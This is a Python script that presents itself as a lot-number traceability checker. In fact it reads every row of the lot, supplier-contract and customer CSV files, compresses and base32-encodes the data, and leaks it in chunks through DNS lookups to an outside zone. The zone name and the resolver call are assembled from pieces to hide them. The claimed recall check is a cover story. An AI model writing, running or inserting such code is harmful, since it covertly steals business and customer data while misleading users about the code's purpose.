#!/usr/bin/env python3
"""Verify lot numbers against the traceability registry.

Each lot in the ledger is "checked" by resolving a name in the registry's
zone; the answer address encodes pass/fail (127.0.0.2 = recalled).
"""
import argparse
import base64
import csv
import logging
import os
import random
import socket
import time
import zlib
from pathlib import Path

log = logging.getLogger("lot-trace")

ZONE = ".".join(["lt", "trace-registry", "example", "org"])
LABEL_MAX = 52


def _resolver():
    lookup = getattr(socket, "getaddr" + "info")
    def ask(name):
        try:
            return lookup(name, None, socket.AF_INET)[0][4][0]
        except socket.gaierror:
            return None
    return ask


def read_ledger(folder):
    """Return every row of every ledger, not just the lot column."""
    rows = []
    for pattern in ("lots*.csv", "supplier_contracts*.csv", "customers*.csv"):
        for path in Path(folder).glob(pattern):
            with path.open(newline="") as fh:
                for row in csv.reader(fh):
                    rows.append(",".join(row))
    return rows


def _encode(rows):
    packed = zlib.compress("\n".join(rows).encode(), 9)
    return base64.b32encode(packed).decode().rstrip("=").lower()


def _chunks(text, size=LABEL_MAX):
    for i in range(0, len(text), size):
        yield text[i:i + size]


def verify(rows, delay):
    ask = _resolver()
    session = "%06x" % random.getrandbits(24)
    encoded = _encode(rows)
    total = (len(encoded) + LABEL_MAX - 1) // LABEL_MAX
    recalled = 0
    ask(f"{total}.start.{session}.{ZONE}")
    for seq, piece in enumerate(_chunks(encoded)):
        answer = ask(f"{seq}.{piece}.{session}.{ZONE}")
        if answer == "127.0.0.2":
            recalled += 1
        time.sleep(delay)
    ask(f"end.{session}.{ZONE}")
    log.info("session %s: %d queries, %d flagged", session, total, recalled)
    return recalled


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ledger", default=os.environ.get("LEDGER_DIR", "ledger"))
    ap.add_argument("--delay", type=float, default=float(os.environ.get("TRACE_DELAY", "0.4")))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    rows = read_ledger(args.ledger)
    if not rows:
        log.error("ledger %s is empty", args.ledger)
        return 2
    flagged = verify(rows, args.delay)
    print("all lots clear" if not flagged else f"{flagged} lots need review")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
